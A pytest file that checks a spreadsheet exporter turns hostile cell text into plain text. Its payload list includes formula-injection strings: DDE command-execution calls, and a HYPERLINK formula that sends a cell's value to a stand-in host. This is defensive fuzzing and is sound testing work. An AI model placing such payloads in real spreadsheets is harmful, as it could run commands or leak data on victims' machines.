"""Spreadsheets that strangers cannot program: every text comes back as text."""

import io
import random
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from core.errors import DomainError
from core.exports import MOST_LETTERS, MOST_ROWS, Column, clean_text, in_zone, write_xlsx

AT = datetime(2026, 11, 24, 3, 30, tzinfo=UTC)
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    '"=',
    "'=",
    "\x00=",
    "\x1f",
    " =",
    "#",
]
COMMANDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://contoh.test?x="&A1,"klik")', "SUM(A1:A9)", "DDE(\"cmd\";\"/c\")",
    "IMPORTXML(CONCAT(A1))", "{=1}", "N/A", "REF!", "NULL!", "12", "1e9", "24/11/2026", "TRUE", "_x003D_1",
    "\x07\x1b[0m", "\ud800", "￾", "‮cba", "baris\r\nbaris", "<f>1</f>", "]]>", "&amp;", "é" * 50,
]  # fmt: skip


def sheet_of(content):
    return load_workbook(io.BytesIO(content)).active


def written(rows, columns=3):
    titles = [Column(f"Kolom {number}") for number in range(1, columns + 1)]
    return write_xlsx("Daftar hasil", titles, rows, by="Rina Admin", at=AT)


def hostile_cells(seed, count):
    """Starts that begin formulas, before commands, before letters of any kind; the same for the same seed."""
    dice = random.Random(seed)
    letters = [*"abcXYZ019 ,;:!\"'()[]{}<>&%$#_\t\n\r\x00\x0b\x7f\x85\u2028", "\ud800", "\uffff", "𝄞", "日", "ü"]
    for _number in range(count):
        tail = "".join(dice.choices(letters, k=dice.randint(0, 12)))
        yield dice.choice(STARTS) * dice.randint(0, 2) + dice.choice([dice.choice(COMMANDS), ""]) + tail


def test_3000_hostile_cells_come_back_as_text():
    cells = list(hostile_cells(1236, 3_000))
    content = written([cells[start : start + 3] for start in range(0, len(cells), 3)])

    back = [cell for row in sheet_of(content).iter_rows(min_row=3, max_col=3) for cell in row]

    assert [unescape(cell.value or "") for cell in back] == [clean_text(text) for text in cells]
    assert {cell.data_type for cell in back if cell.value} <= {"s", "inlineStr"}
    assert {cell.number_format for cell in back} == {"@"}
    assert formulas(content) == 0


def formulas(content):
    """Elements that a spreadsheet calculates, in any part of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        trees = [etree.fromstring(parts.read(name)) for name in parts.namelist() if name.endswith(".xml")]
    return sum(len(tree.xpath("//*[local-name()='f' or local-name()='definedName']")) for tree in trees) - 1  # filter


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=[]), max_size=40), min_size=1, max_size=12))
def test_any_text_comes_back_as_it_was_cleaned(texts):
    back = [row[0] for row in sheet_of(written([[text] for text in texts], 1)).iter_rows(min_row=3, values_only=True)]

    assert [unescape(value or "") for value in back] == [clean_text(text) for text in texts]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_cell_stays_text_when_somebody_edits_it(start):
    assert sheet_of(written([[f"{start}1+1"]], 1))["A3"].quotePrefix


def test_numbers_and_days_are_numbers_and_days():
    moment = in_zone(AT, "Asia/Makassar")

    row = next(sheet_of(written([[24, date(2026, 11, 24), moment]])).iter_rows(min_row=3, values_only=True))

    assert row == (24, datetime(2026, 11, 24), datetime(2026, 11, 24, 11, 30))


def test_identifier_of_digits_keeps_its_zeros():
    assert sheet_of(written([["000123"]], 1))["A3"].value == "000123"


def test_file_says_who_took_it_and_when():
    sheet = sheet_of(written([["Siti"]], 1))

    assert "Rina Admin" in sheet["A1"].value
    assert "24 November 2026 pukul 10.30 WIB" in sheet["A1"].value
    assert sheet["A2"].value == "Kolom 1"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A3", "A2:A3")


def test_title_of_a_sheet_is_one_that_spreadsheets_take():
    content = write_xlsx("[=a:b/c?]'*" + "x" * 40, [Column("a")], [], by="Rina", at=AT)

    assert load_workbook(io.BytesIO(content)).sheetnames == ["=a b c" + " " * 4 + "x" * 20]


def test_long_text_is_cut_with_a_mark():
    text = sheet_of(written([["x" * 40_000]], 1))["A3"].value

    assert len(text) == MOST_LETTERS
    assert text.endswith("…")


def test_too_many_rows_say_how_to_narrow():
    with pytest.raises(DomainError, match="saringan") as refused:
        written(([str(number)] for number in range(MOST_ROWS + 1)), 1)

    assert refused.value.code == "too_many_rows"
